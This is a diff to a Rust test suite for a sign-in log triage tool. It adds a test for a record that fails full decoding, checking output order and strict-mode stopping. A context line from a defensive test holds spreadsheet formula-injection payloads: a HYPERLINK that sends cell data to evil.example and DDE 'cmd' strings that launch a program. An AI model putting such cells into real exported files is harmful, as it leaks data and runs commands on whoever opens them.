@@ -135,6 +135,39 @@ fn bad_records_are_counted_and_listed_and_strict_stops() {
 }
 
 #[test]
+fn a_record_that_fails_only_its_full_decode_is_reported_in_order_and_strict_stops_there() {
+    // Pass 1 reads a dozen fields and passes this record; pass 2 decodes it
+    // in full and fails. 100 attempts span several of pass 2's work units.
+    let dir = tempfile::tempdir().unwrap();
+    let good = std::fs::read_to_string(root().join("tests/fixtures/lockout/signin.json")).unwrap();
+    let v: serde_json::Value = serde_json::from_str(&good).unwrap();
+    let lines: Vec<String> = (1..=100)
+        .map(|i| {
+            let mut r = v["value"][0].clone();
+            r["correlationId"] = format!("corr-{i:03}").into();
+            r["id"] = format!("id-{i:03}").into();
+            if i == 70 {
+                r["authenticationDetails"] = 42.into();
+            }
+            r.to_string()
+        })
+        .collect();
+    std::fs::write(dir.path().join("s.jsonl"), lines.join("\n")).unwrap();
+    let ids = |out: &str| jsonl(out).iter().map(|r| r["id"].as_str().unwrap().to_string()).collect::<Vec<_>>();
+    let want = |range: std::ops::RangeInclusive<usize>| range.filter(|i| *i != 70).map(|i| format!("id-{i:03}")).collect::<Vec<_>>();
+
+    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--format", "json", "--threads", "2"]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(ids(&out), want(1..=100), "every other attempt, in file order");
+    assert!(err.contains("s.jsonl:70: record 70: cannot read this sign-in: invalid type: integer `42`"), "{err}");
+
+    let (code, out, err) = run_in(dir.path(), &["triage", "--signins", "s.jsonl", "--format", "json", "--threads", "2", "--strict"]);
+    assert_eq!(code, 4);
+    assert_eq!(ids(&out), want(1..=69), "the attempts before the bad record, and none after");
+    assert!(err.contains("s.jsonl:70:1: record 70: cannot read this sign-in"), "{err}");
+}
+
+#[test]
 fn csv_cells_cannot_run_as_formulas() {
     let dir = tempfile::tempdir().unwrap();
     let evil = r#"{"id":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","createdDateTime":"2026-11-20T09:00:00Z","correlationId":"+cmd|' /C calc'!A0","userPrincipalName":"@SUM(1+1)*cmd|' /C calc'!A0","appDisplayName":"-2+3","status":{"errorCode":50126}}"#;
